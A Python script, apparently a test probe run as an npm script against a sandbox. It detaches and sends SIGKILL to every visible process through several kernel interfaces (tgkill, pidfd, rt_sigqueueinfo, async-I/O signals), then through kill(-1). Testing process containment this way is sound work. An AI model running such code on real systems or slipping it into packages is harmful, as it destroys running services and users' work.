"""Kills every process that it sees, in all ways that the kernel offers, and then by kill(-1)."""

import ctypes
import fcntl
import os
import signal
import struct
import time

import kit

KILL = int(signal.SIGKILL)
RT_SIGQUEUEINFO, TGKILL = 129, 234

# A grandchild, so that npm sees its script end; what is killed with it is npm's own matter.
if kit.detach():
    time.sleep(0.2)
    targets = [pid for pid in kit.visible() if pid not in (os.getpid(), 1)]
    information = struct.pack("=iii", KILL, 0, -1) + bytes(116)
    for pid in targets:
        kit.call(RT_SIGQUEUEINFO, pid, KILL, information)
        kit.call(TGKILL, pid, pid, KILL)
        process, _ = kit.call(kit.PIDFD_OPEN, pid, 0)
        if process >= 0:
            kit.call(kit.PIDFD_SEND_SIGNAL, process, KILL, 0, 0)
        reading, writing = os.pipe()
        try:
            fcntl.fcntl(reading, fcntl.F_SETOWN, pid)
            fcntl.fcntl(reading, 10, KILL)  # F_SETSIG
            flags = fcntl.fcntl(reading, fcntl.F_GETFL)
            fcntl.fcntl(reading, fcntl.F_SETFL, flags | os.O_NONBLOCK | 0o20000)  # O_ASYNC
            os.write(writing, b"x")
        except OSError:
            pass
        try:
            os.kill(pid, KILL)
        except OSError:
            pass
    try:
        os.kill(-1, KILL)
    except OSError:
        pass
    os._exit(0)
time.sleep(3)
ctypes.set_errno(0)
